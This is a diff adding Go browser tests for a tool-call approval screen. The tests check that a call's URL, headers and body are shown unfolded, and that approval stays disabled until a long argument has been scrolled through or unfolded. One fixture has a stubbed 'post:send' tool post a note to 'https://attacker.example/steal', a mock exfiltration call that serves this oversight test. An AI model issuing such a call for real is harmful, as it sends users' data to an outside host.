@@ -1,8 +1,12 @@
 package webtest_test
 
 import (
+	"context"
+	"slices"
+	"strings"
 	"testing"
 
+	"skandha.dev/pkg/plugin"
 	"skandha.dev/services/uibridge/webtest"
 )
 
@@ -107,6 +111,78 @@ func TestExactlyWhatIsAskedForIsShown(t *testing.T) {
 	p.Wait(`all(".ask[data-open=true] .diff-add .diff-text").map((e) => e.innerText).join() === "2" && all(".ask[data-open=true] .diff-del .diff-text").map((e) => e.innerText).join() === "two"`)
 	p.Wait(`one(".ask[data-open=true] .ask-approve:not(:disabled)")`)
 	p.Shot("difference")
+}
+
+// A text of several lines does not fold away where it goes: what is drawn apart is left out
+// of the JSON, and nothing else is.
+func TestWhatDecidesIsNeverFolded(t *testing.T) {
+	r := webtest.Start(t, webtest.Options{Config: "policy:\n  - {tool: '*', effect: confirm}\n"})
+	type post struct {
+		Method  string            `json:"method"`
+		Path    string            `json:"path"`
+		URL     string            `json:"url"`
+		Body    string            `json:"body"`
+		Headers map[string]string `json:"headers"`
+	}
+	r.Plug(plugin.Manifest{Name: "post", Version: "1.0.0"}, "post:send",
+		plugin.Tool("post:send", "Posts a body to a URL.", func(context.Context, post) (string, error) { return "sent", nil }))
+	p := r.SignedIn(t, "steal")
+	p.Say(`call post:send {"method": "POST", "path": "notes.txt", "url": "https://attacker.example/steal", "headers": {"X-A": "1"}, "body": "Dear team,\nthe weather is fine.\n"}`)
+	const card = `.ask[data-open=true] `
+	p.Wait(`one("` + card + `.ask-approve:not(:disabled)")`)
+	for _, want := range []string{"POST", "https://attacker.example/steal", "X-A", "the weather is fine."} {
+		if !webtest.Get[bool](p, `all("`+card+`:is(.ask-args, .ask-code)").some((e) => e.checkVisibility() && !e.closest("details") && e.innerText.includes(`+"`"+want+"`"+`))`) {
+			t.Errorf("%q is not open", want)
+		}
+	}
+	if n := webtest.Get[int](p, `all("`+card+`:is(.ask-args, .ask-code)").filter((e) => !e.closest("details") && e.innerText.includes("weather")).length`); n != 1 {
+		t.Errorf("the body is shown %d times, want once", n)
+	}
+	p.Wait(`text(".call-args").startsWith("https://attacker.example")`)
+	p.Shot("nothing-folded")
+	// Names that are one for some reader are shown as they came, and no other way.
+	whole := webtest.Get[[]bool](p, `import(one("script[type=module]").src.replace(/app\.js$/, "exact.js")).then(({fields, object}) => [
+		fields('{"a": 1, "A": "x\\ny"}') === null, fields('[1]') === null,
+		object(fields('{"n": 12345678901234567890, "o": {"a": [1, {"b": 2}]}, "s": "{,}"}')) === '{"n":12345678901234567890,"o":{"a": [1, {"b": 2}]},"s":"{,}"}',
+		object(fields('{}')) === '{}'])`)
+	if slices.Contains(whole, false) {
+		t.Errorf("the fields of arguments are read wrong: %v", whole)
+	}
+}
+
+// A long call can be approved when all of it was on the screen, or was unfolded; it can be
+// refused at once.
+func TestALongCallIsApprovedWhenAllOfItWasSeen(t *testing.T) {
+	r := webtest.Start(t, webtest.Options{Config: asks})
+	p := r.SignedIn(t, "long")
+	long := strings.Repeat(`harmless\n`, 300) + `and the key`
+	say := func() {
+		p.Say(`call notes:add {"text": "` + long + `"}`)
+		p.Wait(`one(".ask[data-open=true] .ask-refuse:not(:disabled)") && seen(".ask[data-open=true] .ask-unfold")`)
+		p.Wait(`one(".ask[data-open=true] .ask-approve").disabled && seen(".ask[data-open=true] .ask-unread")`)
+	}
+	say()
+	p.Shot("long-unread")
+	webtest.Get[bool](p, `(one(".ask-code").scrollTop = one(".ask-code").scrollHeight, true)`) // past the middle
+	p.Wait(`one(".ask-code").scrollTop > 1000 && one(".ask-approve").disabled`)
+	webtest.Get[bool](p, `new Promise((done) => {
+		const e = one(".ask-code");
+		e.scrollIntoView({block: "center", behavior: "instant"});
+		e.scrollTop = 0;
+		const step = () => { e.scrollTop += 80; if (e.scrollTop + e.clientHeight < e.scrollHeight - 1) requestAnimationFrame(step); else done(true); };
+		requestAnimationFrame(step);
+	})`)
+	p.Wait(`one(".ask-approve:not(:disabled)") && !seen(".ask-unread")`)
+	p.Click(".ask-approve")
+	p.Wait(`one(".ask[data-outcome=approved]") && !one(".ask[data-open=true]")`)
+	p.Wait(finished + ` === 1`)
+
+	say()
+	p.Click(".ask[data-open=true] .ask-unfold")
+	p.Wait(`one(".ask[data-open=true] .ask-approve:not(:disabled)") && !seen(".ask[data-open=true] .ask-unfold")`)
+	p.Shot("long-unfolded")
+	p.Click(".ask[data-open=true] .ask-approve")
+	p.Wait(finished + ` === 2`)
 }
 
 // Whoever may only look sees the request, and no button.
